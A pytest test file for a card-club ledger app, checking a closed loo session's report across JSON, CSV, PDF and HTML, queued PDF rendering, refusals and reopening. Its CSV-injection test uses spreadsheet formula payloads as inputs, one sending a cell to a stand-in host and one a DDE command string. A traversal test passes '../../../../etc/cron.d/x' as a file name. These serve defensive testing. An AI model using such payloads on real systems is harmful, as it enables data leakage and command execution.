"""Closing the hand-worked 53-deal session and reading its report in every format.

Every expected figure comes from the hand arithmetic in sessionkit's docstring.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser

import pytest

from accounts.models import Member
from tests.api.conftest import problem
from tests.reports import sessionkit as kit
from tests.reports.conftest import WorkerKilled, add_rebuy, fingerprint_of, get_pdf, killing, url

pytestmark = pytest.mark.django_db


@pytest.fixture
def closed_session(hand_session, scorer_client):
    response = scorer_client.post(url(hand_session, "close"), {"reason": "end of the evening"},
                                  format="json")
    assert response.status_code == 200, response.content
    hand_session.close_answer = response.json()
    return hand_session


def test_close_answer_hand_worked(closed_session):
    body = closed_session.close_answer
    assert body["status"] == "closed"
    assert body["end_pool"] == {"mode": "split", "pool": 9, "eldest": "cat",
                                "shares": kit.EXPECTED["shares"]}
    assert body["returned"] == kit.EXPECTED["returned"]
    assert body["results"] == kit.EXPECTED["result_money"]
    assert [(t["payer"], t["payee"], t["amount"]) for t in body["transfers"]] == kit.EXPECTED["transfers"]
    assert body["transfers"][1]["explanation"] == (
        "ann owes 0.75 of a 30.25 loss, dan is owed 29.00; settles ann; dan is still owed 28.25")
    warnings = body["warnings"]
    assert warnings[0] == "Players have not dealt equally often: ann 14, bob 13, cat 13, dan 13."
    assert warnings[1].startswith("The last deal ended in a loo (ann paid 3, cat paid 3, dan paid 3)")


def test_ledger_after_close(closed_session):
    from games.services.ledger import ledger_balances, ledger_check

    balances = ledger_balances(closed_session)
    assert balances == {"ann": 0, "bob": 0, "cat": 0, "dan": 0, "pool": 0, "bank": 0}
    assert ledger_check(closed_session) == []


def test_report_json_matches_hand_totals(closed_session, viewer_client):
    response = viewer_client.get(url(closed_session, "report"))
    assert response.status_code == 200
    report = response.json()
    assert report["final"] is True and report["status"] == "closed"
    players = {p["name"]: p for p in report["players"]}
    for seat in kit.SEATS:
        p = players[seat]
        assert p["bought_chips"] == kit.EXPECTED["bought"][seat]
        assert p["won_chips"] == kit.EXPECTED["won"][seat]
        assert p["end_pool_share"] == kit.EXPECTED["shares"][seat]
        assert p["returned_chips"] == kit.EXPECTED["returned"][seat]
        assert p["result_chips"] == kit.EXPECTED["result_chips"][seat]
        assert p["result_money"] == kit.EXPECTED["result_money"][seat]
        assert p["owed_money"] == kit.EXPECTED["money_owed"][seat]
        assert p["times_dealt"] == kit.EXPECTED["times_dealt"][seat]
    assert players["ann"]["result"] == "-30.25"
    assert players["cat"]["violations"] == 1
    totals = report["totals"]
    assert totals["deals"] == 53
    assert totals["chips_bought"] == totals["chips_returned"] == 340
    # the closing split emptied the pool of 9: every chip is in a hand; the series end with
    # that close, after the last deal, so the charts end where this table does
    assert report["pool_series"][-2:] == [9, 0] and report["pool_now"] == 0
    assert report["closing_point"] is True and len(report["pool_series"]) == 53 + 2
    assert {s: v[-1] for s, v in report["chips_series"].items()} == kit.EXPECTED["returned"]
    assert sum(p["chips_now"] for p in report["players"]) == 340
    assert totals["loos_paid"] == kit.EXPECTED["loos_paid"]
    assert totals["penalties_paid"] == kit.EXPECTED["penalties_paid"]
    assert totals["violations"] == 1 and totals["corrected_deals"] == 1
    # deal 9's correction changed the pool deal 10 was played for: 10 alone was settled again
    assert totals["resettled_deals"] == 1
    deals = {d["number"]: d for d in report["deals"]}
    assert [n for n, d in deals.items() if d["resettled"]] == [10] and not deals[9]["resettled"]
    assert deals[9]["corrected"] and list(deals[9]["tricks_won"].items()) == [
        ("ann", 0), ("bob", 2), ("cat", 1), ("dan", 0)]
    assert deals[10]["pool"] == 9 and deals[10]["payouts"] == {"bob": 9}
    revoke = deals[21]["violations"][0]
    assert (revoke["player"], revoke["rule"], revoke["trick"], revoke["card"]) == ("cat", "revoke", 1, "5H")
    assert "9S" in revoke["evidence"]
    assert report["pool_series"][:4] == [0, 9, 0, 9] and report["pool_series"][-2] == 9
    assert report["chips_series"]["ann"][:3] == [20, 14, 14]
    cat_pays = {b["player"]: b for b in report["through_banker"]}["cat"]
    assert cat_pays["banker_pays"] == 27 * 25 - 3000  # buy-back 6.75 less 30.00 owed


def test_report_csv_tables_parse(closed_session, player_client):
    base = url(closed_session, "report")
    players = list(csv.DictReader(io.StringIO(
        player_client.get(base, {"format": "csv"}).content.decode())))
    assert [r["player"] for r in players] == kit.SEATS
    assert {r["player"]: r["result_money"] for r in players} == {
        "ann": "-30.25", "bob": "29.50", "cat": "-28.25", "dan": "29.00"}
    assert {r["player"]: int(r["returned_chips"]) for r in players} == kit.EXPECTED["returned"]
    response = player_client.get(base, {"format": "csv", "table": "deals"})
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="session-{closed_session.pk}-deals.csv"')
    deals = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(deals) == 53
    assert sum(int(d["delta_bob"]) for d in deals) == kit.EXPECTED["won"]["bob"]
    assert "revoke" in deals[20]["violations"] and deals[8]["corrected"] == "yes"
    assert [d["number"] for d in deals if d["resettled"] == "yes"] == ["10"]
    transfers = list(csv.reader(io.StringIO(
        player_client.get(base, {"format": "csv", "table": "transfers"}).content.decode())))
    assert transfers[1][:3] == ["ann", "bob", "29.50"]
    bad = player_client.get(base, {"format": "csv", "table": "nope"})
    assert bad.status_code == 400 and bad["Content-Type"] == "application/problem+json"
    assert bad.json()["errors"] == [{"field": "table", "message": 'Unknown table "nope".',
                                     "code": "invalid"}]
    assert bad.json()["detail"] == "table must be one of players, deals, transfers, purchases."


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A2,"Ann")',
                                  "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"])
def test_csv_cells_never_run_as_formulas(closed_session, player_client, owner_client, name):
    # a display name typed by an owner must reach the treasurer's spreadsheet as text
    assert owner_client.patch("/api/v1/clubs/oak/members/ann/", {"display_name": name},
                              format="json").status_code == 200
    players = list(csv.DictReader(io.StringIO(player_client.get(
        url(closed_session, "report"), {"format": "csv"}).content.decode())))
    ann = next(r for r in players if r["player"] == "ann")
    assert ann["display_name"] == "'" + name
    assert ann["result_money"] == "-30.25"  # a negative figure is a figure, not a formula
    results = list(csv.DictReader(io.StringIO(player_client.get(
        "/api/v1/clubs/oak/results", {"format": "csv"}).content.decode())))
    assert next(r for r in results if r["player"] == "ann")["display_name"] == "'" + name


def test_report_pdf(closed_session, viewer_client):
    response = viewer_client.get(url(closed_session, "report"), {"format": "pdf"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert data.startswith(b"%PDF")
    assert response["Content-Type"] == "application/pdf"
    assert f'filename="session-{closed_session.pk}-report.pdf"' in response["Content-Disposition"]


def test_an_open_sessions_pdf_is_named_provisional(hand_session, viewer_client):
    response = viewer_client.get(url(hand_session, "report"), {"format": "pdf"})
    assert response.status_code == 200
    assert f'filename="session-{hand_session.pk}-report-provisional.pdf"' in \
        response["Content-Disposition"]


def fail_with(monkeypatch, module, name: str, exc: Exception) -> None:
    """Make ``module.name`` raise ``exc`` (the report's gathering or WeasyPrint breaking)."""
    def broken(*args):
        raise exc

    monkeypatch.setattr(module, name, broken)


@pytest.fixture
def queue(monkeypatch) -> list[tuple]:
    """As with a real broker (eager_celery restores the mode): what the view queues for the
    worker, which the test then runs as the worker would."""
    from games.tasks import render_pdf
    from loo_ledger.celery import app

    app.conf.task_always_eager = False
    queued: list[tuple] = []
    monkeypatch.setattr(render_pdf, "delay", lambda *args: queued.append(args))
    return queued


def assert_render_failed(client, session, why: str) -> None:
    """A GET of the PDF answers the failure as a 500 render-failed naming why."""
    response = get_pdf(client, session)
    assert response.status_code == 500
    body = response.json()
    assert body["code"] == "render-failed" and why in body["detail"]


def test_report_pdf_with_a_broker_answers_202(closed_session, viewer_client, queue):
    from games.tasks import render_pdf

    response = get_pdf(viewer_client, closed_session)
    assert response.status_code == 202 and response["Retry-After"] == "2"
    assert get_pdf(viewer_client, closed_session).status_code == 202
    assert queue == [(closed_session.pk, fingerprint_of(closed_session))]  # queued once
    render_pdf(*queue[0])  # what the worker does
    again = get_pdf(viewer_client, closed_session)
    assert again.status_code == 200 and b"".join(again.streaming_content).startswith(b"%PDF")


def test_report_pdf_when_the_broker_is_down_is_503_and_asked_again(closed_session, viewer_client,
                                                                   monkeypatch):
    from kombu.exceptions import OperationalError

    from games.tasks import render_pdf
    from loo_ledger.celery import app

    app.conf.task_always_eager = False
    tries = []

    def unreachable(*args):
        tries.append(args)
        raise OperationalError("Error 111 connecting to 127.0.0.1:6399. Connection refused.")

    monkeypatch.setattr(render_pdf, "delay", unreachable)
    for _ in range(2):  # nothing is left marked queued: each GET tries the queue again
        response = viewer_client.get(url(closed_session, "report"), {"format": "pdf"})
        assert response.status_code == 503 and response["Retry-After"] == "5"
        body = response.json()
        assert body["code"] == "queue-unavailable" and "cannot be reached" in body["detail"]
    assert len(tries) == 2
    monkeypatch.setattr(render_pdf, "delay", lambda *args: tries.append(args))
    assert viewer_client.get(url(closed_session, "report"), {"format": "pdf"}).status_code == 202
    assert len(tries) == 3


def test_report_pdf_whose_rendering_failed_says_so_once(closed_session, viewer_client, queue,
                                                        monkeypatch):
    from games.reports import pdf
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, closed_session).status_code == 202
    fail_with(monkeypatch, pdf, "report_pdf", OSError("no fonts"))
    with pytest.raises(OSError):
        render_pdf(*queue[0])  # the worker's attempt fails
    assert_render_failed(viewer_client, closed_session, "OSError: no fonts")
    # said once; the next GET queues the rendering again
    assert get_pdf(viewer_client, closed_session).status_code == 202
    assert len(queue) == 2


def started(key) -> str | None:
    """The start count a rendering left under its key (None: none is counted)."""
    marker = key.file(".started")
    return marker.read_text() if marker.exists() else None


def test_a_rendering_whose_worker_was_killed_twice_renders_the_third_time(
        closed_session, viewer_client, queue, monkeypatch):
    # a worker restarted mid-rendering (twice, even) still renders it when handed it again
    from games.reports import pdf
    from games.reports.pdf import PdfKey
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, closed_session).status_code == 202
    key, real = PdfKey(*queue[0]), pdf.report_pdf
    kills = killing(monkeypatch, pdf, "report_pdf")
    for count in ("1", "2"):
        with pytest.raises(WorkerKilled):
            render_pdf(*queue[0])
        assert started(key) == count  # counted before the work, left behind by the kill
    monkeypatch.setattr(pdf, "report_pdf", real)
    render_pdf(*queue[0])
    assert len(kills) == 2 and started(key) is None  # an attempt that ends takes its count away
    response = get_pdf(viewer_client, closed_session)
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")


def test_the_delivery_after_three_kills_leaves_the_failure_unrendered_and_asking_again_starts_afresh(
        closed_session, viewer_client, queue, monkeypatch):
    from games.reports import pdf
    from games.reports.pdf import MAX_STARTS, GivenUp, PdfKey
    from games.tasks import render_pdf

    assert MAX_STARTS == 3
    assert get_pdf(viewer_client, closed_session).status_code == 202
    key, real = PdfKey(*queue[0]), pdf.report_pdf
    kills = killing(monkeypatch, pdf, "report_pdf")
    for _ in range(3):
        with pytest.raises(WorkerKilled):
            render_pdf(*queue[0])
    # the fourth delivery renders nothing (WeasyPrint not reached, the worker not killed): it
    # fails (the task ends, so its message is acknowledged) and leaves why for the client
    with pytest.raises(GivenUp):
        render_pdf(*queue[0])
    assert len(kills) == 3 and started(key) is None and not key.file(".pdf").exists()
    assert_render_failed(viewer_client, closed_session, "The PDF could not be rendered (its "
                         "rendering stopped the worker 3 times (the worker was killed while "
                         "rendering it, most likely out of memory: the report is probably too "
                         "large for the server), so it was not tried again). GET this URL again "
                         "to try once more")
    # told once; asking again queues it, with three starts afresh (more memory since, say)
    assert get_pdf(viewer_client, closed_session).status_code == 202 and len(queue) == 2
    with pytest.raises(WorkerKilled):
        render_pdf(*queue[1])
    assert started(key) == "1" and len(kills) == 4
    monkeypatch.setattr(pdf, "report_pdf", real)
    render_pdf(*queue[1])
    assert get_pdf(viewer_client, closed_session).status_code == 200


def test_in_eager_mode_a_rendering_that_killed_its_process_three_times_is_told_once(
        closed_session, viewer_client, monkeypatch):
    # without a broker the web process renders: one killed rendering it (its request cut off)
    # three times leaves the count as a worker's would
    from games.reports import pdf

    key = pdf.PdfKey(closed_session.pk, fingerprint_of(closed_session))
    key.file(".started").parent.mkdir(parents=True)
    key.file(".started").write_text("3")
    spy = killing(monkeypatch, pdf, "report_pdf")
    assert_render_failed(viewer_client, closed_session, "its rendering stopped the worker 3 times")
    assert spy == [] and started(key) is None
    monkeypatch.undo()
    response = get_pdf(viewer_client, closed_session)  # asked again: rendered afresh
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")


def reading_meanwhile(monkeypatch, meanwhile) -> None:
    """Run ``meanwhile()`` once, just after the first read of a file's text: another request
    at the same moment, between a reader's read of the failure marker and what it does next."""
    from pathlib import Path

    real, started = Path.read_text, []

    def read_text(self, *args, **kwargs):
        text = real(self, *args, **kwargs)
        if not started:
            started.append(True)
            meanwhile()
        return text

    monkeypatch.setattr(Path, "read_text", read_text)


def test_a_failure_marker_is_claimed_by_one_reader(settings, monkeypatch):
    # two requests that find one failure at once: one of them answers it, never both
    from games.reports.pdf import PdfKey, pdf_failure

    key = PdfKey(7, "0123456789abcdef0123")
    key.file(".failed").parent.mkdir(parents=True)
    key.file(".failed").write_text("OSError: no fonts", encoding="utf-8")
    answers = []
    reading_meanwhile(monkeypatch, lambda: answers.append(pdf_failure(key)))
    answers.append(pdf_failure(key))
    assert answers == [None, "OSError: no fonts"]  # the other request, then the first
    assert not any((settings.MEDIA_ROOT / "reports").iterdir())  # nothing left behind


def test_two_polls_at_once_answer_one_failure_once(closed_session, viewer_client, owner_client,
                                                   queue, monkeypatch):
    from games.reports import pdf
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, closed_session).status_code == 202
    fail_with(monkeypatch, pdf, "report_pdf", OSError("no fonts"))
    with pytest.raises(OSError):
        render_pdf(*queue[0])
    other = []
    reading_meanwhile(monkeypatch, lambda: other.append(get_pdf(owner_client, closed_session)))
    first = get_pdf(viewer_client, closed_session)
    # the request that read the marker first answers the failure; the other queues it again
    assert (first.status_code, other[0].status_code) == (500, 202)
    assert first.json()["code"] == "render-failed" and "OSError: no fonts" in first.json()["detail"]
    assert len(queue) == 2


def test_report_pdf_whose_report_failed_in_the_worker_says_so_once(closed_session, viewer_client,
                                                                   queue, monkeypatch):
    from games.reports import gather
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, closed_session).status_code == 202
    fail_with(monkeypatch, gather, "session_report", RuntimeError("the database went away"))
    with pytest.raises(RuntimeError):
        render_pdf(*queue[0])  # the worker fails before WeasyPrint is reached
    # not 202 until the queued marker ages out: the failure is found under the request's key
    assert_render_failed(viewer_client, closed_session, "RuntimeError: the database went away")
    assert get_pdf(viewer_client, closed_session).status_code == 202  # once; then queued again
    assert len(queue) == 2


def test_report_pdf_whose_report_failed_in_eager_mode_says_why_once(closed_session, viewer_client,
                                                                    monkeypatch):
    from games.reports import gather

    fail_with(monkeypatch, gather, "session_report", RuntimeError("the database went away"))
    assert_render_failed(viewer_client, closed_session, "RuntimeError: the database went away")
    monkeypatch.undo()  # the next GET renders afresh, not the old failure again
    response = get_pdf(viewer_client, closed_session)
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")


def test_report_pdf_queued_before_the_report_changed(hand_session, viewer_client, queue):
    from games.reports.pdf import PdfKey
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, hand_session).status_code == 202
    asked = PdfKey(*queue[0])
    add_rebuy(hand_session)
    render_pdf(*queue[0])  # renders the report as it is now
    assert not asked.file(".queued").exists()  # the asked version is not waited on any more
    response = get_pdf(viewer_client, hand_session)
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")
    assert len(queue) == 1


def test_a_failure_of_a_report_since_changed_is_not_the_new_ones(hand_session, viewer_client,
                                                                 queue, monkeypatch):
    from games.reports import pdf
    from games.tasks import render_pdf

    assert get_pdf(viewer_client, hand_session).status_code == 202
    fail_with(monkeypatch, pdf, "report_pdf", OSError("no fonts"))
    add_rebuy(hand_session)
    with pytest.raises(OSError):
        render_pdf(*queue[0])
    # the failure belongs to the version asked for; the new version is queued in its own right
    assert get_pdf(viewer_client, hand_session).status_code == 202
    assert len(queue) == 2 and queue[1][1] == fingerprint_of(hand_session) != queue[0][1]
    with pytest.raises(OSError):
        render_pdf(*queue[1])
    assert_render_failed(viewer_client, hand_session, "OSError: no fonts")


def test_report_pdf_in_eager_mode_when_the_report_changed_meanwhile(hand_session, viewer_client,
                                                                    monkeypatch):
    # the views bind session_report when first imported: import them before the patch, so that
    # they keep the real one (this test may be the first of its process to make a request)
    from games.reports import api, gather, web

    assert api.session_report is web.session_report is gather.session_report
    original = gather.session_report

    def changed_meanwhile(session):  # a rebuy lands between the request's report and the task's
        add_rebuy(session)
        return original(session)

    monkeypatch.setattr(gather, "session_report", changed_meanwhile)
    response = get_pdf(viewer_client, hand_session)  # the PDF of the report as it is now
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")


def test_render_pdf_takes_nothing_but_a_fingerprint_for_a_file_name(closed_session, settings):
    from games.tasks import render_pdf

    with pytest.raises(ValueError, match="not a report fingerprint"):
        render_pdf(closed_session.pk, "../../../../etc/cron.d/x")
    with pytest.raises(ValueError, match="not a session id"):  # nor a session id but an id
        render_pdf("../../../victim/x", "0123456789abcdef0123")
    assert not (settings.MEDIA_ROOT / "victim").exists()


def test_report_html_page(closed_session, client, member_for):
    client.force_login(member_for("viewer").user)
    page = client.get(f"/clubs/oak/sessions/{closed_session.pk}/report/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-result="-3025"' in html and "-30.25" in html
    assert 'id="chips-chart"' in html and 'id="pool-chart"' in html
    # the charts' legends end with the close, as the players table does: no pool left; they
    # name the players as the table does
    assert all(f"{s.title()} ({n})</text>" in html for s, n in kit.EXPECTED["returned"].items())
    assert "pool (0)</text>" in html
    assert "<script" not in html
    assert "Club <b>Oak Card Club</b>" in html
    total = html[html.index('<tr id="players-total">'):html.index("</tfoot>")]
    cells = re.findall(r'<td class="num"[^>]*>([^<]*)</td>', total)
    # chips bought, money bought, owed for chips, left to pay the banker (cat's 30.00 less
    # his buy-back of 6.75), won in play, pool share, returned, result chips/money
    assert cells[:9] == ["340", "85.00", "30.00", "23.25", str(-9), "9", "340", "0",
                         "0.00"]
    looed = sum(1 for d in closed_session.deals.all() for p in
                (d.current.verdict["settlement"]["loo_payments"]) if p)
    assert cells[10] == str(looed)  # dealt, then looed
    assert "Chips: 340 bought\n= 340 returned + 0 in the pool; results add up to 0.00 GBP." in html
    assert 'id="settle-how"' in html
    assert "1 corrected deal, 1 deal re-settled after a correction." in html
    # chips, said so: "240 units" read as money beside the API's "smallest currency units"
    assert f"{kit.EXPECTED['loos_paid']} chips paid in loos, 0 in penalties," in html
    row10 = html[html.index('<tr data-deal="10">'):html.index('<tr data-deal="11">')]
    assert ">re-settled</span>" in row10 and ">corrected</span>" not in row10
    assert re.search(r'closed \d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d UTC</span>', html)
    banker = html[html.index('id="through-banker"'):html.index('id="transfers"')]
    names = {p.display_name for p in Member.objects.filter(club=closed_session.club,
                                                            name__in=kit.SEATS)}
    assert names and all(f'<tr><th scope="row"><bdi>{n}</bdi></th>' in banker for n in names)


class Tables(HTMLParser):
    """Each table of a page by id: its column heads' text and its rows' cells' text."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, dict[str, list]] = {}
        self.table: dict[str, list] | None = None
        self.cell: list[str] | None = None
        self.in_head = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self.table = self.tables.setdefault(dict(attrs).get("id") or "", {"heads": [], "rows": []})
        elif tag == "thead":
            self.in_head = True
        elif tag == "tr" and self.table is not None and not self.in_head:
            self.table["rows"].append([])
        elif tag in ("th", "td"):
            self.cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "thead":
            self.in_head = False
        elif tag in ("th", "td") and self.cell is not None and self.table is not None:
            text = " ".join("".join(self.cell).split())
            (self.table["heads"] if self.in_head else self.table["rows"][-1]).append(text)
            self.cell = None
        elif tag == "table":
            self.table = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)


def test_every_money_column_of_the_report_page_names_the_currency(closed_session, client,
                                                                   member_for):
    """A treasurer reads money by its header: "Owed for chips", "Left to pay the banker" and the
    purchases' "Money" said no currency where every other money column says "(GBP)"."""
    client.force_login(member_for("viewer").user)
    html = client.get(f"/clubs/oak/sessions/{closed_session.pk}/report/").content.decode()
    parser = Tables()
    parser.feed(html)
    money = re.compile(r"-?\d{1,3}(,\d{3})*\.\d\d")  # 29.50, -1,234.00: pence, not chips
    unlabelled = {}
    for name, table in parser.tables.items():
        for column, head in enumerate(table["heads"]):
            cells = [row[column] for row in table["rows"] if column < len(row)]
            if any(money.fullmatch(cell) for cell in cells) and "(GBP)" not in head:
                unlabelled.setdefault(name, []).append(head)
    assert {"players", "through-banker", "transfers", "purchases"} <= set(parser.tables)
    assert unlabelled == {}
    assert "results add up to 0.00 GBP." in html


def test_report_page_links_every_csv_table_the_api_offers(closed_session, client, member_for):
    """The page's downloads offer each CSV table (the purchases one, with its voids, was left
    out: a treasurer on the page could not get it), and each link answers that table."""
    from games.reports.render import CSV_TABLES

    client.force_login(member_for("viewer").user)
    html = client.get(f"/clubs/oak/sessions/{closed_session.pk}/report/").content.decode()
    nav = html[html.index('<nav aria-label="Downloads and pages">'):]
    nav = nav[:nav.index("</nav>")]
    links = dict(re.findall(r'<a href="([^"]*format=csv[^"]*)">([^<]*)</a>', nav))
    assert sorted(links.values()) == sorted(f"CSV: {t}" for t in CSV_TABLES), links
    for href, label in links.items():
        answer = client.get(href.replace("&amp;", "&"))
        table = label.removeprefix("CSV: ")
        assert answer.status_code == 200, href
        assert f'-{table}.csv"' in answer["Content-Disposition"], answer["Content-Disposition"]


def test_report_page_says_who_pays_how_each_deal_ended_and_what_its_words_mean(
        closed_session, client, member_for, viewer_client):
    client.force_login(member_for("viewer").user)
    html = client.get(f"/clubs/oak/sessions/{closed_session.pk}/report/").content.decode()
    # through the banker: the net in its own column, not only in the explanation
    banker = html[html.index('id="through-banker"'):html.index('id="transfers"')]
    assert "Banker pays / player pays (GBP)</th>" in banker
    assert 'data-banker-pays="-2325">player pays 23.25</td>' in banker  # cat: 6.75 less 30.00
    assert 'data-banker-pays="3450">banker pays 34.50</td>' in banker  # bob: 138 chips, paid up
    # deal 2 is a double pool the dealer took without play: said in words, no "bob:0" tricks
    row1 = html[html.index('<tr data-deal="1">'):html.index('<tr data-deal="2">')]
    row2 = html[html.index('<tr data-deal="2">'):html.index('<tr data-deal="3">')]
    assert '<td class="ended" data-ended="played">played out</td>' in row1
    assert ('<td class="ended" data-ended="dealer-takes">dealer takes the pool: all the others '
            'passed</td>') in row2
    assert "<td>—</td>" in row2 and "<td>—</td>" not in row1
    legend = html[html.index('id="deals-legend"'):]
    assert "<b>simple</b>" in legend and "<b>double</b>" in legend and "<b>Played for</b>" in legend
    assert 'title="What the tricks share' in html
    # the date once in the header (the title is the session's name, so the line gives it)
    header = html[html.index("<h1>"):html.index("</p>")]
    assert header.count("28 November 2026") == 1 and "2026-11-28" not in header
    # the JSON and the deals CSV keep the engine's code, the CSV in a last column
    deals = viewer_client.get(url(closed_session, "report")).json()["deals"]
    assert [d["ended"] for d in deals[:2]] == ["played", "dealer-takes"]
    rows = list(csv.reader(io.StringIO(viewer_client.get(
        url(closed_session, "report"), {"format": "csv", "table": "deals"}).content.decode())))
    assert rows[0][-2:] == ["resettled", "ended"] and rows[2][-1] == "dealer-takes"


def test_open_session_report_is_provisional(hand_session, viewer_client):
    report = viewer_client.get(url(hand_session, "report")).json()
    assert report["final"] is False and report["transfers"] == []
    players = {p["name"]: p for p in report["players"]}
    assert players["ann"]["chips_now"] == 160 - 123 and players["ann"]["result_money"] is None
    assert players["ann"]["result"] is None  # was "": text for a figure not known yet
    assert report["pool_now"] == 9
    response = viewer_client.get(url(hand_session, "report"), {"format": "csv"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="session-{hand_session.pk}-players-provisional.csv"')
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {r["result_money"] for r in rows} == {""}


# --- refusals -------------------------------------------------------------------------------


def test_close_refusals(hand_session, viewer_client, player_client, outsider_client, anon_client):
    assert viewer_client.post(url(hand_session, "close")).status_code == 403
    assert player_client.post(url(hand_session, "close")).status_code == 403
    assert outsider_client.post(url(hand_session, "close")).status_code == 404
    assert outsider_client.get(url(hand_session, "report")).status_code == 404
    assert anon_client.post(url(hand_session, "close")).status_code == 401
    assert anon_client.get(url(hand_session, "report")).status_code == 401
    hand_session.refresh_from_db()
    assert hand_session.status == "open"


def test_report_page_refusals(hand_session, client, member_for):
    page = f"/clubs/oak/sessions/{hand_session.pk}/report/"
    assert client.get(page).status_code == 302  # to the login page
    client.force_login(member_for("outsider").user)
    assert client.get(page).status_code == 404
    assert client.get("/clubs/oak/results/").status_code == 404


def test_closed_session_refuses_writes(closed_session, scorer_client):
    from games.services.deals import deal_correct, deal_record
    from games.services.sessions import purchase_record
    from loo_ledger.problems import Problem

    record = kit.deal_record(54)
    record.pop("pool")
    for write in (
        lambda: deal_record(session=closed_session, number=54, record=record),
        lambda: deal_correct(session=closed_session, number=3, record=kit.deal_record(3)),
        lambda: purchase_record(session=closed_session, player="ann", chips=5),
    ):
        with pytest.raises(Problem) as info:
            write()
        assert info.value.status_code == 409 and info.value.code == "session-closed"
    again = scorer_client.post(url(closed_session, "close"))
    assert again.status_code == 409


def test_reopen_owner_only_logged_and_reversed(closed_session, scorer_client, owner_client):
    from games.models import SessionClosing
    from games.services.ledger import ledger_balances, ledger_check

    assert scorer_client.post(url(closed_session, "reopen"), {"reason": "x"}).status_code == 403
    no_reason = owner_client.post(url(closed_session, "reopen"), {}, format="json")
    assert no_reason.status_code == 400
    response = owner_client.post(url(closed_session, "reopen"),
                                 {"reason": "bob's last deal was miscounted"}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["reopened_by"] == "olga"
    closed_session.refresh_from_db()
    assert closed_session.status == "open" and closed_session.closed_at is None
    balances = ledger_balances(closed_session)
    assert balances["pool"] == 9
    assert {s: balances[s] for s in kit.SEATS} == {
        s: kit.EXPECTED["bought"][s] + kit.EXPECTED["won"][s] for s in kit.SEATS}
    assert ledger_check(closed_session) == []
    # the closing is reversed in its own place, the buy-back first: the timeline shows no
    # step of it, and never a player below zero
    closing = SessionClosing.objects.get(session=closed_session, action="close")
    assert response.json()["reversing_postings"] == list(reversed(closing.postings))
    rows = owner_client.get(url(closed_session, "ledger")).json()["rows"]
    assert {r["kind"] for r in rows} == {"deal", "purchase"}
    assert all(chips >= 0 for r in rows for chips in r["balances"].values())
    assert rows[-1]["balances"] == {s: balances[s] for s in kit.SEATS} and rows[-1]["pool"] == 9
    log = list(SessionClosing.objects.filter(session=closed_session).values_list("action", "by__username", "reason"))
    assert log == [("close", "sam", "end of the evening"), ("reopen", "olga", "bob's last deal was miscounted")]
    history = owner_client.get(url(closed_session, "closings")).json()
    assert [h["action"] for h in history] == ["close", "reopen"]
    # and it closes again to the same figures
    again = owner_client.post(url(closed_session, "close"))
    assert again.status_code == 200 and again.json()["results"] == kit.EXPECTED["result_money"]
    assert owner_client.post(url(closed_session, "reopen"), {"reason": "y"}).status_code == 200
    assert owner_client.post(url(closed_session, "reopen"), {"reason": "y"}).status_code == 409


def test_a_session_closed_reopened_and_closed_again_says_so_in_its_report(
        closed_session, owner_client, viewer_client, client, member_for):
    reopened = owner_client.post(url(closed_session, "reopen"),
                                 {"reason": "bob's last deal was miscounted"}, format="json")
    assert reopened.status_code == 200, reopened.content
    assert owner_client.post(url(closed_session, "close"), {"reason": "recounted"},
                             format="json").status_code == 200
    report = viewer_client.get(url(closed_session, "report")).json()
    log = viewer_client.get(url(closed_session, "closings")).json()
    assert report["reopenings"] == 1
    assert report["history"] == [{k: e[k] for k in ("action", "at", "by", "reason")} for e in log]
    assert [(e["action"], e["by"], e["reason"]) for e in report["history"]] == [
        ("close", "sam", "end of the evening"), ("reopen", "olga", "bob's last deal was miscounted"),
        ("close", "olga", "recounted")]
    assert report["players"][0]["result"] == "-30.25"  # the same figures as the first close
    client.force_login(member_for("viewer").user)
    html = client.get(f"/clubs/oak/sessions/{closed_session.pk}/report/").content.decode()
    line = re.search(r'<span id="history">([^<]*)</span>', html)
    assert line and re.fullmatch(
        r"Closed twice, reopened once; last reopened \d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d UTC "
        r"by olga \(bob&#x27;s last deal was miscounted\); last closed \d{1,2} [A-Z][a-z]{2} "
        r"\d{4} \d\d:\d\d UTC by olga \(recounted\)\.", line[1]), line


def test_a_banker_who_does_not_sit_is_named_in_the_report(club, viewer_client, client, member_for):
    from games.services.sessions import session_create

    Member.objects.filter(club=club, name="sam").update(display_name="Samuel Banks")
    h = kit.header()
    session = session_create(
        club=club, date=dt.date(2026, 11, 28), seats=h["seats"], first_dealer="ann",
        rules={"game": "poker-loo"}, banker="sam", chip_value=kit.CHIP_VALUE, currency="GBP",
        name="Poker night", buy_ins=h["buy_ins"], user=None)
    report = viewer_client.get(url(session, "report")).json()
    assert "sam" not in report["seats"]
    assert (report["banker"], report["banker_display_name"]) == ("sam", "Samuel Banks")
    assert (report["rules"]["game"], report["game_name"]) == ("poker-loo", "poker-Loo")
    client.force_login(member_for("viewer").user)
    html = client.get(f"/clubs/oak/sessions/{session.pk}/report/").content.decode()
    assert "Banker: <b><bdi>Samuel Banks</bdi></b>" in html
